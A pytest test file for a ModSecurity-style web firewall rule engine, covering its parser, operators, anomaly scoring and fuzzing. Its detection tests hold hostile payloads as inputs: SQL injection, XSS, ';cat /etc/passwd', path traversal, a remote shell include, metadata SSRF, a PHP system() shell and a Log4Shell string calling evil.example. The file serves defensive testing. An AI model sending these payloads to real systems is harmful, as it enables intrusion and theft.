"""SecLang parser, operators and the rule engine on hand-written rules; parser fuzzing."""

from __future__ import annotations

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from fsbrain.core.errors import PolicyError
from fsbrain.domains.web import HttpRequest, WebRuleEngine
from fsbrain.domains.web.seclang.injection import detect_sqli, detect_xss
from fsbrain.domains.web.seclang.operators import compile_operator
from fsbrain.domains.web.seclang.parser import parse_target, parse_text, split_actions

SETUP = 'SecAction "id:1,phase:1,pass,nolog,setvar:tx.critical_anomaly_score=5"\n'


def engine(rules: str, **kw) -> WebRuleEngine:
    return WebRuleEngine.from_text(SETUP + rules, **kw)


def req(uri="/", **kw) -> HttpRequest:
    return HttpRequest.from_dict({"uri": uri, "headers": {"Host": "h", "User-Agent": "ua"}, **kw})


def test_split_actions_quotes_and_colons():
    acts = split_actions("id:5,msg:'a, b: c',t:none,setvar:'tx.x=+%{tx.y}',ctl:ruleRemoveTargetById=1;ARGS:a")
    assert acts == [("id", "5"), ("msg", "a, b: c"), ("t", "none"), ("setvar", "tx.x=+%{tx.y}"),
                    ("ctl", "ruleRemoveTargetById=1;ARGS:a")]


def test_parse_targets():
    t = parse_target("!REQUEST_COOKIES:/^__utm/")
    assert t.exclude and t.collection == "REQUEST_COOKIES" and t.selects("__utmz") and not t.selects("s")
    c = parse_target("&TX:Foo")
    assert c.count and c.key == "foo"
    with pytest.raises(ValueError, match="unknown variable"):
        parse_target("NOPE")


def test_regex_selector_with_pipe_is_one_target():
    rs = parse_text('SecRule ARGS:/^(a|b)$/|ARGS_NAMES "@rx x" "id:2,phase:2,pass"')
    assert [t.raw for t in rs.rules[0].targets] == ["ARGS:/^(a|b)$/", "ARGS_NAMES"]


@pytest.mark.parametrize(("text", "message"), [
    ('SecRule ARGS "@rx (" "id:2,phase:2"', "does not compile on RE2"),
    ('SecRule ARGS "@nope x" "id:2"', "unknown operator @nope"),
    ('SecRule ARGS "@rx a" "phase:2"', "no 'id'"),
    ('SecRule ARGS "@rx a" "id:2,t:nothing"', "unknown transformation"),
    ('SecRule ARGS "@rx a" "id:2,frobnicate"', "unknown action"),
    ('SecRule BOGUS "@rx a" "id:2"', "unknown variable"),
    ('SecRule ARGS "@rx a" "id:2,phase:9"', "phase must be"),
    ('SecRule ARGS "@rx a" "id:2"\nSecRule ARGS "@rx b" "id:2"', "duplicate rule id 2"),
    ('SecRule ARGS "@rx a" "id:2,chain"', "no rule follows"),
    ('SecFoo bar', "unknown directive"),
    ('SecRule ARGS "@rx a', "unterminated"),
    ('SecRuleUpdateTargetById 77 "!ARGS:x"', "no rule with id 77"),
])
def test_parse_errors_name_file_and_line(text, message):
    with pytest.raises(PolicyError, match=message) as exc:
        parse_text("# comment\n\n" + text, source="r.conf")
    assert exc.value.source == "r.conf" and exc.value.line is not None and exc.value.line >= 3
    assert str(exc.value).startswith("r.conf:")


def test_all_problems_collected():
    with pytest.raises(PolicyError) as exc:
        parse_text('SecRule ARGS "@rx (" "id:2"\nSecRule ARGS "@bad" "id:3"')
    assert len(exc.value.problems) == 2 and "and 1 more" in str(exc.value)


def test_unsupported_operator_loads_disabled():
    rs = parse_text('SecRule REMOTE_ADDR "@rbl sbl.example" "id:2,phase:1,deny"')
    assert rs.rules[0].disabled and rs.disabled[0]["line"] == 1


def test_line_continuation_and_chain():
    rs = parse_text('SecRule ARGS "@rx a" \\\n  "id:2,phase:2,pass,chain"\n  SecRule ARGS "@rx b" "t:none"')
    r = rs.rules[0]
    assert r.chain is not None and r.chain.id == 2 and r.chain.phase == 2


def test_operators():
    e = None
    assert compile_operator("within", "GET POST")(b"GET", e) is not None
    assert compile_operator("within", "GET POST")(b"PUT", e) is None
    assert compile_operator("validateByteRange", "32-126")(b"ab\x01", e) == (b"\x01",)
    assert compile_operator("validateUrlEncoding", "")(b"%4g", e) is not None
    assert compile_operator("validateUtf8Encoding", "")(b"\xc3(", e) is not None
    assert compile_operator("validateUtf8Encoding", "")("é".encode(), e) is None
    assert compile_operator("ipMatch", "10.0.0.0/8,::1")(b"10.2.3.4", e) is not None
    assert compile_operator("ipMatch", "10.0.0.0/8")(b"11.0.0.1", e) is None
    assert compile_operator("containsWord", "select")(b"a select b", e) is not None
    assert compile_operator("containsWord", "select")(b"selection", e) is None
    assert compile_operator("pm", "foo bar")(b"xxBARxx", e) == (b"BAR",)
    assert compile_operator("rx", "(a)(b)?")(b"xa", e) == (b"a", b"a", b"")
    assert compile_operator("ge", "5")(b"7", e) is not None and compile_operator("lt", "5")(b"x", e) == ()


def test_anomaly_scoring_setvar_macros_and_reasons():
    e = engine('SecRule ARGS "@rx evil" "id:10,phase:2,block,t:lowercase,msg:\'bad %{MATCHED_VAR_NAME}\','
               'tag:\'attack-sqli\',tag:\'paranoia-level/1\',severity:CRITICAL,'
               'setvar:\'tx.inbound_anomaly_score_pl1=+%{tx.critical_anomaly_score}\'"')
    v = e.inspect(req("/?q=EVIL"))
    assert v.blocked and v.score == 5 and v.labels == ["web_sqli"]
    m = v.matched[0]
    assert (m.id, m.variable, m.value, m.msg, m.paranoia, m.score) == (10, "ARGS:q", "evil", "bad ARGS:q", 1, 5)
    r = v.reasons[0]
    assert (r.source, r.id, r.label, r.feature, r.weight, r.threshold) == ("rule", "10", "web_sqli", "ARGS:q", 5, 5)
    assert not engine("").inspect(req("/?q=EVIL")).blocked


def test_skipafter_marker_and_paranoia():
    rules = ('SecRule TX:DETECTION_PARANOIA_LEVEL "@lt 2" "id:5,phase:2,pass,nolog,skipAfter:END"\n'
             'SecRule ARGS "@rx x" "id:6,phase:2,block,setvar:tx.inbound_anomaly_score_pl2=+5"\n'
             'SecMarker END\n')
    assert engine(rules, paranoia=1).inspect(req("/?a=x")).rule_ids == []
    v = engine(rules, paranoia=2).inspect(req("/?a=x"))
    assert v.rule_ids == [6] and v.score == 5


def test_ctl_remove_target_and_exclusion_and_count():
    rules = ('SecRule REQUEST_FILENAME "@streq /login" "id:5,phase:1,pass,nolog,ctl:ruleRemoveTargetById=7;ARGS:pw"\n'
             'SecRule ARGS|!ARGS:safe "@rx x" "id:7,phase:2,pass"\n'
             'SecRule &ARGS "@gt 2" "id:8,phase:2,pass"\n')
    e = engine(rules)
    assert e.inspect(req("/login?pw=x&safe=x")).rule_ids == []
    assert e.inspect(req("/other?pw=x")).rule_ids == [7]
    assert e.inspect(req("/?a=1&b=2&c=3")).rule_ids == [8]


def test_chain_capture_and_tx_reference():
    rules = ('SecRule REQUEST_HEADERS:Content-Type "@rx ^([^;]+)" "id:9,phase:1,pass,capture,chain"\n'
             '  SecRule TX:1 "!@within text/plain application/json" "setvar:tx.inbound_anomaly_score_pl1=+5"\n')
    e = engine(rules)
    ok = HttpRequest.from_dict({"headers": {"Content-Type": "application/json; charset=utf-8"}})
    bad = HttpRequest.from_dict({"headers": {"Content-Type": "application/evil"}})
    assert e.inspect(ok).rule_ids == [] and e.inspect(bad).rule_ids == [9]


def test_deny_interrupts_when_engine_on():
    rules = ('SecRule ARGS "@rx x" "id:2,phase:1,deny"\nSecRule ARGS "@rx x" "id:3,phase:2,pass"\n')
    assert engine(rules).inspect(req("/?a=x")).interrupted_by == 2
    assert engine(rules, rule_engine="DetectionOnly").inspect(req("/?a=x")).rule_ids == [2, 3]


def test_multimatch_sees_intermediate_values():
    rules = 'SecRule ARGS "@rx ^%41$" "id:2,phase:2,pass,t:none,t:urlDecode,multiMatch"\n'
    assert engine(rules).inspect(req("/?a=%2541")).rule_ids == [2]


def test_json_and_xml_bodies_are_inspected():
    e = WebRuleEngine.default()
    j = HttpRequest.from_dict({"method": "POST", "uri": "/api", "headers": {"Host": "h",
                               "Content-Type": "application/json"}, "body": '{"q": {"id": "1 union select pw from u"}}'})
    v = e.inspect(j)
    assert v.blocked and "web_sqli" in v.labels and any(m.variable == "ARGS:json.q.id" for m in v.matched)
    x = HttpRequest.from_dict({"method": "POST", "uri": "/x", "headers": {"Host": "h", "Content-Type": "text/xml"},
                               "body": "<a><b>&lt;script&gt;alert(1)&lt;/script&gt;</b></a>"})
    assert "web_xss" in e.inspect(x).labels


@pytest.mark.parametrize(("uri", "label"), [
    ("/?id=1%27%20or%20%271%27%3D%271", "web_sqli"),
    ("/?q=%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E", "web_xss"),
    ("/?cmd=;cat%20/etc/passwd", "web_rce"),
    ("/?f=../../../../etc/passwd", "web_lfi"),
    ("/?page=http://203.0.113.9/shell.txt?", "web_rfi"),
    ("/?url=http://169.254.169.254/latest/meta-data/", "web_ssrf"),
    ("/?x=%3C%3Fphp%20system(%24_GET%5Bc%5D)%3B%20%3F%3E", "web_php"),
    ("/?x=${jndi:ldap://evil.example/a}", "web_java"),
])
def test_default_rules_label_attacks(uri, label):
    v = WebRuleEngine.default().inspect(req(uri))
    assert v.blocked and label in v.labels


def test_default_rules_scanner_and_protocol():
    e = WebRuleEngine.default()
    scan = HttpRequest.from_dict({"uri": "/", "headers": {"Host": "h", "User-Agent": "sqlmap/1.7"}})
    assert "web_scanner" in e.inspect(scan).labels
    bad = HttpRequest.from_dict({"method": "TRACK", "uri": "/", "headers": {"Host": "h"}})
    assert "web_protocol" in e.inspect(bad).labels


@pytest.mark.parametrize("uri", ["/", "/search?q=union+station+hotels", "/p?name=O%27Brien&city=Paris",
                                 "/s?q=%E4%BD%A0%E5%A5%BD%E4%B8%96%E7%95%8C", "/a/b/c.html?utm_source=x&page=2"])
def test_default_rules_pass_benign(uri):
    assert not WebRuleEngine.default().inspect(req(uri)).blocked


def test_limits_hit_reported_in_verdict():
    from fsbrain.domains.web import RequestLimits

    r = HttpRequest.from_dict({"uri": "/?" + "&".join(f"a{i}=1" for i in range(50)), "headers": {"Host": "h"}},
                              limits=RequestLimits(max_args=10))
    assert "max_args" in WebRuleEngine.default().inspect(r).limits_hit


def test_verdict_to_dict_shape():
    d = WebRuleEngine.default().inspect(req("/?f=../../etc/passwd")).to_dict()
    assert {"attack", "score", "labels", "rules", "reasons", "limits_hit"} <= set(d)


def test_detectors():
    assert detect_sqli(b"1 union select password from users") is not None
    assert detect_sqli(b"admin'--") is not None
    assert detect_sqli(b"the union of two sets") is None
    assert detect_xss(b"javascript:alert(1)") is not None
    assert detect_xss(b'"><svg/onload=alert(1)>') is not None
    assert detect_xss(b"a < b and c > d") is None


@settings(max_examples=300, deadline=None)
@given(st.text(alphabet='SecRul AIGR_"@rx:|!&/\\,\'id123phase\n t:none', max_size=120))
def test_fuzz_parser_only_raises_policy_error(text):
    try:
        parse_text(text)
    except PolicyError as exc:
        assert exc.problems


@settings(max_examples=200, deadline=None)
@given(st.binary(max_size=200))
def test_fuzz_detectors_never_crash(data):
    detect_sqli(data)
    detect_xss(data)


_FUZZ_ENGINE = WebRuleEngine.default(paranoia=2)


@settings(max_examples=200, deadline=None)
@given(uri=st.text(max_size=60), body=st.binary(max_size=200),
       ct=st.sampled_from(["application/json", "text/xml", "multipart/form-data; boundary=z", ""]))
def test_fuzz_engine_never_crashes(uri, body, ct):
    v = _FUZZ_ENGINE.inspect(HttpRequest(method="POST", uri=uri, headers=[("Content-Type", ct)], body=body))
    assert v.score >= 0


# ---- macro expansion: Transaction.expand (parts cached per text) against re.sub over the whole text ----------

def _expand_reference(tr, text: str) -> bytes:
    from fsbrain.domains.web.request import text_lossless, to_bytes
    from fsbrain.domains.web.seclang.transaction import _MACRO

    return to_bytes(_MACRO.sub(lambda m: text_lossless(tr._macro(m.group(1))), text))


def _macro_tx():
    from fsbrain.domains.web.seclang.transaction import Transaction

    eng = WebRuleEngine.from_text('SecRule ARGS "@rx x" "id:1,phase:1,pass,msg:\'m %{tx.a}\',setvar:tx.a=1"')
    req = HttpRequest(method="POST", uri="/p?q=1&Amt=%E9%87%91", headers=[("Host", "h.example"), ("X-K", "v\xe9")],
                      body=b"a=b")
    tr = Transaction(eng, req, {"a": b"A1", "blocking_score": b"5", "list": b"/x/ /y/", "e": b""})
    tr.rule = eng.rules[0]
    return tr


@pytest.mark.parametrize("text", [
    "", "plain", "%{tx.a}", "%{TX.A}-%{tx.blocking_score}", "a %{tx.missing} b", "%{tx.list}%{tx.a}",
    "%{REQUEST_HEADERS.host}/%{request_headers.X-K}", "%{rule.id} %{RULE.msg}", "%{REQUEST_METHOD}",
    "%{ARGS.amt}", "%{tx.a", "%{}", "%{tx.a}%{", "100%{tx.a}%", "金额 %{tx.a} ü", "%{tx}", "%{MATCHED_VAR}"])
def test_expand_equals_substitution_over_the_whole_text(text):
    tr = _macro_tx()
    assert tr.expand(text) == _expand_reference(tr, text)
    assert tr.expand(text) == _expand_reference(tr, text)  # the second time from the cached parts


@settings(max_examples=300, deadline=None)
@given(st.lists(st.one_of(st.text(alphabet=st.characters(blacklist_categories=("Cs",)), max_size=8),
                          st.sampled_from(["%{tx.a}", "%{TX.Blocking_Score}", "%{tx.e}", "%{rule.id}", "%{",
                                           "}", "%{REQUEST_HEADERS.host}", "%{tx.nope}"])), max_size=6))
def test_expand_fuzzed_against_substitution(pieces):
    tr = _macro_tx()
    text = "".join(pieces)
    assert tr.expand(text) == _expand_reference(tr, text)


def test_expand_sees_tx_written_after_the_parts_were_cached():
    tr = _macro_tx()
    assert tr.expand("s=%{tx.a}") == b"s=A1"
    tr.tx["a"] = b"changed"
    assert tr.expand("s=%{tx.a}") == b"s=changed"
